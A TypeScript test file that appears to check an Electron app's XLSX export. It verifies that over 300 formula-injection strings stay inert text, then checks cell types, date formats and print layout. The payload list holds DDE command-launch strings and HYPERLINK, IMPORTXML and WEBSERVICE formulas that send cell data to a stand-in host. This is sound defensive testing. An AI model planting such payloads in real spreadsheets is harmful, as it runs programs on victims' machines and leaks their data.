import { readSheet } from 'read-excel-file/node';
import { beforeAll, describe, expect, it } from 'vitest';
import { renderXlsx } from '../../../electron/documents/xlsx.ts';
import { printable } from '../../../shared/documents/safe-text.ts';
import type { Sheet } from '../../../shared/documents/sheet.ts';
import { officePart, officeToCells } from './tools.ts';

/** What a spreadsheet may take for the beginning of a formula or a command, also in full width and behind something. */
const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '|', '＝', '＋', '－', '＠', ' =', "'=", '"=', '\u00a0=', '\ufeff=', '\u200b=', '=-', '==', '"+', ';=', ',=', '%0A=', '=+'];
const BODIES = ['1+1', "cmd|' /C calc'!A0", 'SUM(A1:A9)', 'HYPERLINK("http://vi.du/?x="&A1,"Bấm")', "DDE('cmd';'/C calc';'__')", 'IMPORTXML(CONCAT("http://vi.du/?",A1),"//a")', 'WEBSERVICE("http://vi.du")', 'MSEXCEL|\'\\..\\..\\calc.exe\'!A', 'A1', '2*3,"x"', '@SUM(1)', 'TRUE', 'rundll32|\'URL.dll,OpenURL calc.exe\'!A'];
const PAYLOADS = STARTS.flatMap((start) => BODIES.map((body) => start + body));
/** What a spreadsheet may take for a number, a date or a truth value. */
const LOOKALIKES = ['001096012345', '0912345678', '+84912345678', '012345678901234567890', '1E5', '1,000', '05/01/1980', '2026-01-05', '3-4', '12:30', 'TRUE', 'ĐÚNG', '50%', '1/2', 'NaN', '#REF!', "'001"];

describe('F56: texts that look like formulas', () => {
  const texts = [...PAYLOADS, ...LOOKALIKES];
  const sheet: Sheet = { name: 'Thử', titles: [], columns: [{ heading: 'Nội dung', type: 'text', widthMm: 60 }], rows: texts.map((text) => [text]) };
  const expected = texts.map(printable);
  let file: Uint8Array;
  beforeAll(async () => {
    file = await renderXlsx(sheet);
  });

  it('are at least 300, none twice', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(300);
    expect(new Set(PAYLOADS).size).toBe(PAYLOADS.length);
  });

  it('come back as text from a second library', async () => {
    const rows = await readSheet(Buffer.from(file), { trim: false });
    expect(rows.slice(1).map((row) => row[0])).toEqual(expected);
  });

  it('come out of LibreOffice as they were typed, nothing worked out', async () => {
    const cells = (await officeToCells(file)).map((row) => row[0]);
    expect(cells.slice(1, texts.length + 1)).toEqual(expected);
  });

  it('stand in the file as strings: no formula, no link, nothing from outside', async () => {
    const xml = await officePart(file, 'xl/worksheets/sheet1.xml');
    expect(xml).not.toMatch(/<f[ >]|<hyperlink|<oleLink|<ddeLink/u);
    expect(xml.match(/<c [^>]*t="s"/gu)?.length).toBe(texts.length + 1);
    expect(await officePart(file, '*.rels')).not.toMatch(/externalLink|TargetMode="External"/u);
  });
});

describe('typed cells', () => {
  const sheet: Sheet = {
    name: 'Tiền thưởng',
    titles: ['DANH SÁCH TIỀN THƯỞNG'],
    columns: [
      { heading: 'STT', type: 'number', widthMm: 10 },
      { heading: 'Họ và tên', type: 'text', widthMm: 50 },
      { heading: 'Ngày sinh', type: 'date', widthMm: 25 },
      { heading: 'Số định danh', type: 'text', widthMm: 30 },
      { heading: 'Mức tiền', type: 'number', widthMm: 30 },
      { heading: 'Tỷ lệ', type: 'number', widthMm: 20 },
    ],
    rows: [
      [1, 'Nguyễn Văn Mẫu', '1980-01-05', '001096012345', 760000, 90.91],
      [2, 'Trần Thị Thử', '1975', '079180000123', 1520000, 100],
      [3, 'Lê Ví Dụ', null, null, null, null],
    ],
  };
  let file: Uint8Array;
  beforeAll(async () => {
    file = await renderXlsx(sheet);
  });

  it('are numbers, dates and texts to a second library; what is not known is empty and not zero', async () => {
    const rows = await readSheet(Buffer.from(file));
    expect(rows.slice(2)).toEqual([
      [1, 'Nguyễn Văn Mẫu', new Date('1980-01-05T00:00:00Z'), '001096012345', 760000, 90.91],
      [2, 'Trần Thị Thử', '1975', '079180000123', 1520000, 100],
      [3, 'Lê Ví Dụ', null, null, null, null],
    ]);
  });

  it('show money by thousands and dates by day, month, year', async () => {
    const [, , first] = await officeToCells(file);
    expect(first?.slice(1, 5)).toEqual(['Nguyễn Văn Mẫu', '05/01/1980', '001096012345', '760,000']);
    const styles = await officePart(file, 'xl/styles.xml');
    expect(styles).toMatch(/formatCode="dd\/mm\/yyyy"/u);
    expect(styles).toContain('Times New Roman');
    expect(styles).not.toMatch(/<name val="(?!Times New Roman)/u);
  });

  it('print on landscape A4 with the margins of a list, one page wide, heading row repeated', async () => {
    const xml = await officePart(file, 'xl/worksheets/sheet1.xml');
    expect(xml).toMatch(/<pageMargins left="1.181" right="0.787" top="0.787" bottom="0.787" header="0.394" footer="0.394"\/>/u);
    expect(xml).toMatch(/<pageSetup [^>]*fitToWidth="1" fitToHeight="0" paperSize="9" orientation="landscape"/u);
    expect(await officePart(file, 'xl/workbook.xml')).toContain("'Tiền thưởng'!$2:$2");
  });
});
